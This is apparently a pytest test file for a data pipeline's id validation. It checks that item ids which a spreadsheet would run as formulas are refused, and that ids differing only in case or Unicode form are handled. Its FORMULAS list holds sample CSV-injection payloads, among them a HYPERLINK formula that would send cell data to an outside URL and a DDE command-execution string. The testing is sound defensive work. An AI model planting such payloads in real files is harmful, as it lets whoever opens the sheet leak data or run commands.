"""Item ids from other people's data: one that a spreadsheet would run as a formula (in the CSVs
the stages write) is refused where it is read; ids that differ only in case stay two items, and a
label file's id that differs from its transcript's only in case is told so (pipeline.data.item_ids)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline.data.item_ids import FORMULA_STARTS, formula_problem
from pipeline.data.rag_rows import load_rag_rows
from pipeline.data.settings import DataSettings
from pipeline.data.summeval import load_summeval
from pipeline.data.transcripts import load_transcripts
from pipeline.errors import InputError
from tests.conftest import ROOT

HEAD = "start_time\tstop_time\tspeaker\tvalue\n"
TURNS = "1\t2\tEllie\thi\n2\t3\tParticipant\tfine\n"
# As file names can spell them (no "/"): a link that sends the sheet's cells away, a command run.
FORMULAS = ['=HYPERLINK("http:x?"&A1,"301")', "+1+cmd|' -C calc'!A0", "-2+3", "@SUM(A1:A2)"]


def _daic(folder: Path, item: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{item}_TRANSCRIPT.csv"
    path.write_text(HEAD + TURNS, encoding="utf-8")
    return path


def _refused(call: object, where: str, item_id: str) -> InputError:
    assert callable(call)
    with pytest.raises(InputError) as raised:
        call()
    message = str(raised.value)
    assert message.startswith(f"{where}: "), message
    assert f"{item_id!r} starts with {item_id[0]!r}, which a spreadsheet" in message, message
    assert "Fix: start the id with a letter or a digit" in message, message
    return raised.value


@pytest.mark.parametrize("item_id", FORMULAS)
def test_a_transcript_named_as_a_formula_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, item_id: str
) -> None:
    monkeypatch.chdir(tmp_path)
    path = _daic(tmp_path / "data", item_id)
    _daic(tmp_path / "data", "301")
    settings = DataSettings(transcripts="data")
    error = _refused(lambda: load_transcripts(settings, tmp_path), f"data/{path.name}", item_id)
    assert "(rename the file)" in error.fix


def test_a_jsonl_interview_whose_id_is_a_formula_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    lines = [{"id": "300", "text": "Ellie: hi"}, {"id": "\t=1+1", "text": "Ellie: hi"}]
    (tmp_path / "a.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    settings = DataSettings(transcripts=".")
    # The id is stripped, as every transcript's is: what a CSV would hold starts with "=".
    error = _refused(lambda: load_transcripts(settings, tmp_path), "a.jsonl:2", "=1+1")
    assert "(change its 'id')" in error.fix


def test_a_rag_row_whose_id_is_a_formula_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    rows = tmp_path / "rows.jsonl"
    good = {"id": "d01", "question": "q", "answer": "a"}
    rows.write_text(json.dumps(good) + "\n" + json.dumps({**good, "id": "@SUM(A1)"}) + "\n")
    _refused(lambda: load_rag_rows(rows), f"{rows}:2", "@SUM(A1)")


def test_a_summeval_document_whose_id_is_a_formula_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    lines = (ROOT / "data" / "summeval-demo" / "summeval-demo.jsonl").read_text("utf-8").splitlines()
    bad = {**json.loads(lines[0]), "id": "-1+1"}
    path = tmp_path / "bad.jsonl"
    path.write_text("\n".join([json.dumps(bad), *lines[1:]]) + "\n", encoding="utf-8")
    _refused(lambda: load_summeval(path), f"{path}:1", "-1+1")


def test_ordinary_ids_and_the_demos_are_not_formulas() -> None:
    """Every id of the committed demos (whose outputs must not change) passes."""
    settings = DataSettings(transcripts="data/demo")
    demo = [t.item_id for t in load_transcripts(settings, ROOT)]
    rag = [r.id for r in load_rag_rows(ROOT / "data" / "rag-demo" / "rows.jsonl")]
    summeval = [s.item for s in load_summeval(ROOT / "data" / "summeval-demo").summaries]
    ids = [*demo, *rag, *summeval, "301", "P01", "dm-test-8764fb95/M11", "a=b", "x-1", "é"]
    assert demo and rag and summeval
    assert [i for i in ids if formula_problem(i, "f") is not None] == []
    assert all(formula_problem(f"{start}x", "f") is not None for start in FORMULA_STARTS)


def test_ids_that_differ_only_in_case_stay_two_items(tmp_path: Path) -> None:
    """On Linux P01 and p01 are two files and two items; the report's page names of the two differ
    ignoring case too (pipeline.reports.pages, tests/test_report_pages.py)."""
    (tmp_path / "a.jsonl").write_text(
        '{"id": "P01", "text": "Ellie: hi"}\n{"id": "p01", "text": "Ellie: hello"}\n', encoding="utf-8"
    )
    loaded = load_transcripts(DataSettings(transcripts="."), tmp_path)
    assert sorted(t.item_id for t in loaded) == ["P01", "p01"]


def test_a_label_id_that_differs_from_its_transcript_only_in_case_says_so(tmp_path: Path) -> None:
    _daic(tmp_path / "data", "P01")
    (tmp_path / "data" / "split.csv").write_text("Participant_ID\np01\n", encoding="utf-8")
    settings = DataSettings(transcripts="data", labels="data/split.csv")
    with pytest.raises(InputError) as raised:
        load_transcripts(settings, tmp_path)
    assert raised.value.problem == (
        "participant p01 has no transcript in data: the transcript 'P01' spells that id in another case"
    )
    assert raised.value.fix == "write the id in the label file as the transcript's name spells it"


def test_rag_rows_whose_ids_differ_only_in_unicode_form_are_refused(tmp_path: Path) -> None:
    """As two transcripts' are (pipeline.data.transcripts): `é` as one code point and as `e` and an
    accent look the same in every listing and report."""
    rows = tmp_path / "rows.jsonl"
    good = {"question": "q", "answer": "a"}
    lines = [{**good, "id": "caf\u00e9"}, {**good, "id": "cafe\u0301"}, {**good, "id": "CAF\u00c9"}]
    rows.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    with pytest.raises(InputError) as raised:
        load_rag_rows(rows)
    assert str(raised.value).startswith(f"{rows}:2: id 'cafe\u0301' looks the same as 'caf\u00e9' on line 1")
    rows.write_text("".join(json.dumps(line) + "\n" for line in lines[::2]), encoding="utf-8")
    assert [r.id for r in load_rag_rows(rows)] == ["caf\u00e9", "CAF\u00c9"]  # case: two rows


@pytest.mark.parametrize("given", ["true", "1.0", "1e2"])
def test_a_jsonl_interview_id_that_only_reads_as_a_number_is_refused(tmp_path: Path, given: str) -> None:
    """pydantic's lax numbers made JSON's true and 1.0 the id "1", 1e2 the id "100": ids no line
    spells, which could be another line's. A string or a whole number is an id; these are refused."""
    (tmp_path / "a.jsonl").write_text(
        f'{{"id": 7, "text": "Ellie: hi"}}\n{{"id": {given}, "text": "Ellie: hi"}}\n'
    )
    with pytest.raises(InputError) as raised:
        load_transcripts(DataSettings(transcripts="."), tmp_path)
    assert str(raised.value).startswith("a.jsonl:2: id.str: Input should be a valid string")


def test_a_long_formula_id_is_shown_cut(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An id is the file's text: the message showed a formula id whole, however long."""
    monkeypatch.chdir(tmp_path)
    rows = tmp_path / "rows.jsonl"
    item_id = "=" + "A" * 50_000
    rows.write_text(json.dumps({"id": item_id, "question": "q", "answer": "a"}) + "\n")
    with pytest.raises(InputError) as raised:
        load_rag_rows(rows)
    message = str(raised.value)
    assert f"item id {item_id[:80]!r}... (50,001 characters) starts with '='" in message, message[:300]
    assert len(message) < 500


def test_a_negative_whole_number_is_an_id_not_a_formula(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A spreadsheet reads -1 as the number -1, as it reads 007 as 7: nothing runs. Refused, a corpus
    numbering its items with JSON's -1, -2 (or a JSONL interview whose "id" is -1) could not load;
    anything else after the "-" is still refused (-2+3 is a formula, 1)."""
    monkeypatch.chdir(tmp_path)
    assert [formula_problem(i, "f") for i in ("-1", "-0042")] == [None, None]
    assert all(formula_problem(i, "f") is not None for i in ("-2+3", "-1e3", "-", "- 1", "-١", "+1", "-1\n"))
    (tmp_path / "a.jsonl").write_text('{"id": -1, "text": "Ellie: hi"}\n{"id": "300", "text": "Ellie: hi"}\n')
    assert [t.item_id for t in load_transcripts(DataSettings(transcripts="."), tmp_path)] == ["300", "-1"]
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps({"id": "-7", "question": "q", "answer": "a"}) + "\n")
    assert [r.id for r in load_rag_rows(rows)] == ["-7"]


@pytest.mark.parametrize(("field", "what"), [("id", '"id"'), ("model_id", '"model_id"')])
def test_summeval_ids_differing_only_in_unicode_form_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, field: str, what: str
) -> None:
    """Two documents (or systems) "café" in NFC and NFD were two, that a person sees as one, where
    two transcripts' or RAG rows' ids so spelled are refused."""
    monkeypatch.chdir(tmp_path)
    lines = (ROOT / "data" / "summeval-demo" / "summeval-demo.jsonl").read_text("utf-8").splitlines()
    first, second = json.loads(lines[0]), json.loads(lines[1])
    nfc, nfd = "caf\u00e9", "cafe\u0301"
    first[field], second[field] = nfc, nfd
    if field == "id":
        second["text"] = first["text"]
    path = tmp_path / "s.jsonl"
    path.write_text(json.dumps(first) + "\n" + json.dumps(second) + "\n", encoding="utf-8")
    with pytest.raises(InputError) as raised:
        load_summeval(path)
    assert str(raised.value).startswith(
        f"{path}:2: {what} {nfd!r} looks the same as {nfc!r} on an earlier line: one name in two Unicode"
    ), str(raised.value)
    second[field] = nfc + "2"  # another name: two
    path.write_text(json.dumps(first) + "\n" + json.dumps(second) + "\n", encoding="utf-8")
    assert len(load_summeval(path).summaries) == 2
